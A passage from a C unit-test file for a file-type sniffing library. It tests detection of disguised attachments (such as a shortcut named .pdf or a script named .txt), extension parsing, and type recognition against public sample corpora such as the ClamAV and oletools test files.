     "application/vnd.openxmlformats-officedocument.wordprocessingml.document", "a.docx", false},
    {"zip named .jar", FT("zip", NULL, NULL), "application/java-archive", "a.jar", false},
    {"zip named .odt", FT("zip", NULL, NULL), NULL, "a.odt", false},
    {"zip named .apk", FT("zip", NULL, NULL), NULL, "a.apk", false},
    {"jar named .zip", FT("jar", NULL, NULL), "application/zip", "a.zip", false},
    {"rar named .zip", FT("rar", NULL, NULL), "application/zip", "a.zip", false},
    {"rar declared audio/mpeg", FT("rar", NULL, NULL), "audio/mpeg", "song.mp3", true},
    {"ooxml docm declared macro-enabled", FT("ooxml", "docm", NULL),
     "application/vnd.ms-word.document.macroEnabled.12", "a.docm", false},
    {"ooxml xlsm named .xltm", FT("ooxml", "xlsm", NULL), NULL, "a.xltm", false},
    {"ooxml pptm named .ppsm", FT("ooxml", "pptm", NULL), NULL, "a.ppsm", false},
    {"ooxml named .dotm", FT("ooxml", "docm", NULL), NULL, "a.dotm", false},
    {"ooxml named .potm", FT("ooxml", "pptm", NULL), NULL, "a.potm", false},
    {"ooxml named report.pdf", FT("ooxml", "docm", NULL), "application/pdf", "report.pdf", true},
    {"ole2 doc declared msword", FT("ole2", "doc", NULL), "application/msword", "a.doc", false},
    {"ole2 xls declared vnd.ms-excel", FT("ole2", "xls", NULL), "application/vnd.ms-excel", "a.xls",
     false},
    {"ole2 ppt declared vnd.ms-powerpoint", FT("ole2", "ppt", NULL),
     "application/vnd.ms-powerpoint", "a.ppt", false},
    {"ole2 msg named .msg", FT("ole2", "msg", NULL), "application/vnd.ms-outlook", "a.msg", false},
    {"ole2 encrypted ooxml named .docx", FT("ole2", "encrypted-ooxml", NULL),
     "application/vnd.openxmlformats-officedocument.wordprocessingml.document", "a.docx", false},
    {"ole2 doc named .docx (office for office)", FT("ole2", "doc", NULL), NULL, "a.docx", false},
    {"ooxml declared application/msword", FT("ooxml", "docx", NULL), "application/msword", "a.docx",
     false},
    {"ole2 named .zip", FT("ole2", "xls", NULL), "application/zip", "a.zip", true},
    {"ole2 named photo.jpg", FT("ole2", "doc", NULL), "image/jpeg", "photo.jpg", true},
    {"script js named .js declared text/plain", FT("script", NULL, "js"), "text/plain", "a.js",
     false},
    {"script js declared application/javascript", FT("script", NULL, "js"),
     "application/javascript", "a.js", false},
    {"script js named .jse", FT("script", NULL, "js"), NULL, "a.jse", false},
    {"bat declared application/x-msdos-program (mime.types)", FT("script", NULL, "bat"),
     "application/x-msdos-program", "build.bat", false},
    {"pe named .bat declared x-msdos-program", FT("pe", NULL, NULL), "application/x-msdos-program",
     "build.bat", true},
    {"script named report.txt", FT("script", NULL, "vbs"), "text/plain", "report.txt", true},
    {"script named .json", FT("script", NULL, "js"), NULL, "data.json", true},
    {"script declared text/plain, no name", FT("script", NULL, "ps1"), "text/plain", NULL, true},
    {"script hta named .html", FT("script", NULL, "hta"), "text/html", "page.html", true},
    {"lnk named .pdf", FT("lnk", NULL, NULL), NULL, "doc.pdf", true},
    {"iso named .img", FT("iso", NULL, NULL), NULL, "disk.img", false},
    {"iso named .pdf", FT("iso", NULL, NULL), NULL, "scan.pdf", true},
    {"onenote named .one", FT("onenote", NULL, NULL), "application/onenote", "n.one", false},
    {"chm named .txt", FT("chm", NULL, NULL), NULL, "help.txt", true},
    {"text named report.txt", FT("text", NULL, NULL), "text/plain", "report.txt", false},
    {"text named .csv", FT("text", NULL, NULL), "text/csv", "data.csv", false},
    {"pdf named .exe is no disguise of pdf", FT("pdf", NULL, NULL), NULL, "a.exe", false},
    {"png named .exe", FT("png", NULL, NULL), NULL, "a.exe", false},
    {"html named .txt", FT("html", NULL, NULL), "text/plain", "a.txt", false},
    {"nameless FILETYPE", FT(NULL, NULL, NULL), "image/png", "a.png", false},
};

/* test_mismatch - declared type or extension against the detected family */
static void test_mismatch(void **state)
{
    (void)state;
    char got[160], want[160];
    for (size_t i = 0; i < sizeof(mismatch_cases) / sizeof(mismatch_cases[0]); i++) {
        const MISMATCH_CASE *c = &mismatch_cases[i];
        bool m = filetype_mismatch(c->ctype, c->filename, &c->ft);
        snprintf(got, sizeof(got), "%s: %s", c->what, m ? "mismatch" : "fine");
        snprintf(want, sizeof(want), "%s: %s", c->what, c->want ? "mismatch" : "fine");
        assert_string_equal(got, want);
    }
    assert_false(filetype_mismatch("image/png", "a.png", NULL));
}

/* test_ext - extension parsing */
static void test_ext(void **state)
{
    (void)state;
    static const struct {
        const char *filename, *want;
    } cases[] = {
        {"invoice.PDF", "pdf"},
        {"a.pdf .exe ", "exe"},
        {"archive.tar.gz", "gz"},
        {"noext", ""},
        {"trailing.", ""},
        {"dots...", ""},
        {".bashrc", "bashrc"},
        {"", ""},
        {NULL, ""},
        {"dir.d/file", ""},
        {"C:\\dir.d\\file", ""},
        {"a.exe\t\r\n", "exe"},
        {"a.Settingcontent-MS", "settingcontent-ms"},
        {"x.abcdefghijklmnopqrstuvwxyz0123456789", "abcdefghijklmnopqrstuvwxyz01234"},
    };
    for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++)
        assert_string_equal(filetype_ext(cases[i].filename), cases[i].want);
}

/* read_file - a whole file in an allocation of its exact size; NULL when unreadable */
static unsigned char *read_file(const char *path, size_t *n)
{
    FILE *f = fopen(path, "rb");
    unsigned char *p = NULL;
    long size;
    if (f == NULL)
        return NULL;
    if (fseek(f, 0, SEEK_END) == 0 && (size = ftell(f)) >= 0 && fseek(f, 0, SEEK_SET) == 0) {
        p = xmalloc(size ? (size_t)size : 1);
        *n = fread(p, 1, (size_t)size, f);
    }
    fclose(f);
    return p;
}

/* corpus_present - the shared corpus is checked out next to the repository */
static bool corpus_present(void)
{
    struct stat st;
    return stat(CORPUS, &st) == 0 && S_ISDIR(st.st_mode);
}

/* test_corpus - externally authored files get the expected token */
static void test_corpus(void **state)
{
    (void)state;
    static const struct {
        const char *path, *name, *sub;
    } cases[] = {
        {"clamav-testfiles/files/clam.zip", "zip", NULL},
        {"clamav-testfiles/files/clam.7z", "7z", NULL},
        {"clamav-testfiles/files/clam.cab", "cab", NULL},
        {"clamav-testfiles/files/clam.exe", "pe", NULL},
        {"clamav-testfiles/files/clam-upx.exe", "pe", NULL},
        {"clamav-testfiles/files/clam.pdf", "pdf", NULL},
        {"clamav-testfiles/files/clam.exe.rtf", "rtf", NULL},
        {"clamav-testfiles/files/clam.ole.doc", "ole2", "doc"},
        {"clamav-testfiles/files/clam.ppt", "ole2", "ppt"},
        {"clamav-testfiles/files/clam.chm", "chm", NULL},
        {"clamav-testfiles/files/clam.tar.gz", "gzip", NULL},
        {"clamav-testfiles/files/clam.exe.bz2", "bzip2", NULL},
        {"clamav-testfiles/files/clam.exe.html", "html", NULL},
        {"clamav-testfiles/files/clam.mail", "eml", NULL},
        {"clamav-testfiles/files/clam.exe.mbox.base64", "eml", NULL},
        {"office-apache-poi/document/SimpleMacro.docm", "ooxml", "docm"},
        {"office-apache-poi/document/SimpleMacro.doc", "ole2", "doc"},
        {"office-apache-poi/spreadsheet/SimpleMacro.xls", "ole2", "xls"},
        {"office-apache-poi/spreadsheet/SimpleMacro.xlsm", "ooxml", "xlsm"},
        {"office-apache-poi/slideshow/SimpleMacro.ppt", "ole2", "ppt"},
        {"office-apache-poi/slideshow/SimpleMacro.pptm", "ooxml", "pptm"},
        {"office-apache-poi/diagram/SimpleMacro.vsd", "ole2", "vsd"},
        {"office-apache-poi/diagram/SimpleMacro.vsdm", "ooxml", "vsdm"},
        {"office-apache-poi/document/SimpleMacro.vba", "text", NULL},
        {"oletools/test-data/encrypted/encrypted.docx", "ole2", "encrypted-ooxml"},
        {"oletools/test-data/excel4-macros/excel4_sample_macro.xlsm", "ooxml", "xlsm"},
        {"oletools/test-data/msodde/dde-test.xlsx", "ooxml", "xlsx"},
        {"oletools/test-data/msodde/dde-in-csv.csv", "text", NULL},
        {"oletools/test-data/msodde/harmless-clean.xml", "xml", NULL},
        {"oletools/test-data/msodde/RTF-Spec-1.7.rtf", "rtf", NULL},
        {"oletools/test-data/oleobj/embedded-simple-2007.odt", "odf", NULL},
        {"oletools/test-data/oleobj/sample_with_lnk_file.ppt", "ole2", "ppt"},
        {"oletools/test-data/oleobj/embedded-simple-2007.pptx", "ooxml", "pptx"},
        {"oletools/test-data/excel4-macros/excel4_sample_macro.slk", "script", NULL},
        {"oletools/test-data/basic/empty", "empty", NULL},
    };
    char path[512], got[600], want[600];
    size_t checked = 0;
    if (!corpus_present())
        skip();
    for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
        size_t n = 0;
        FILETYPE ft;
        snprintf(path, sizeof(path), "%s/%s", CORPUS, cases[i].path);
        unsigned char *p = read_file(path, &n);
        if (p == NULL)
            continue; /* a trimmed corpus lacks some files */
        filetype_sniff(p, n, path, &ft);
        free(p);
        snprintf(got, sizeof(got), "%s: %s/%s", cases[i].path, ft.name, ft.sub ? ft.sub : "-");
        snprintf(want, sizeof(want), "%s: %s/%s", cases[i].path, cases[i].name,
                 cases[i].sub ? cases[i].sub : "-");
        assert_string_equal(got, want);
        checked++;
    }
    if (checked == 0)
        skip();
}

/* test_corpus_lnk - every decoded LnkParse3 sample, malformed ones included, is an lnk */
static void test_corpus_lnk(void **state)
{
    (void)state;
    const char *dir = CORPUS "/lnk-lnkparse3/samples_decoded";
    char path[512], got[600], want[600];
    size_t checked = 0;
    DIR *d = opendir(dir);
    if (d == NULL)
        skip();
    for (struct dirent *e; (e = readdir(d)) != NULL;) {
        size_t n = 0, len = strlen(e->d_name);
        FILETYPE ft;
        if (len < 4 || strcmp(e->d_name + len - 4, ".lnk") != 0)
            continue;
        snprintf(path, sizeof(path), "%s/%s", dir, e->d_name);
        unsigned char *p = read_file(path, &n);
        if (p == NULL)
            continue;
        filetype_sniff(p, n, NULL, &ft);
        free(p);
        snprintf(got, sizeof(got), "%s: %s", e->d_name, ft.name);
        snprintf(want, sizeof(want), "%s: lnk", e->d_name);
        assert_string_equal(got, want);
        checked++;
    }
    closedir(d);
    if (checked == 0)
        skip();
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_magic),
        cmocka_unit_test(test_text),
        cmocka_unit_test(test_scripts),
        cmocka_unit_test(test_truncated_magic),
        cmocka_unit_test(test_truncated_builds),
        cmocka_unit_test(test_mismatch),
        cmocka_unit_test(test_ext),
        cmocka_unit_test(test_corpus),
        cmocka_unit_test(test_corpus_lnk),
    };
    return cmocka_run_group_tests_name("filetype", tests, NULL, NULL);
}
